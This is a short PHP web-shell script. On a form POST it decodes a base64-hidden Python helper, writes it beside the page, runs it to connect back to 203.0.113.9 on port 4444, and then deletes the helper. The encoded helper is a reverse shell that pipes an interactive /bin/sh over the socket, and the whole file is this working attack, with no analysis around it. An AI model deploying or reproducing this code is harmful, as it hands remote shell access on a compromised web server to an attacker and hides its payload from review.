<?php
// a "connect back" button: a Python helper carried encoded, written next to the page, run
$helper = base64_decode('IyEvdXNyL2Jpbi9lbnYgcHl0aG9uMwppbXBvcnQgc29ja2V0LCBzdWJwcm9jZXNzLCBzeXMKcyA9IHNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoc3lzLmFyZ3ZbMV0sIGludChzeXMuYXJndlsyXSkpKQpzdWJwcm9jZXNzLmNhbGwoWyIvYmluL3NoIiwgIi1pIl0sIHN0ZGluPXMuZmlsZW5vKCksIHN0ZG91dD1zLmZpbGVubygpLCBzdGRlcnI9cy5maWxlbm8oKSkK');
if (isset($_POST['go'])) {
    file_put_contents('cb.py', $helper);
    echo '<pre>' . shell_exec('python3 cb.py 203.0.113.9 4444 2>&1') . '</pre>';
    @unlink('cb.py');
}
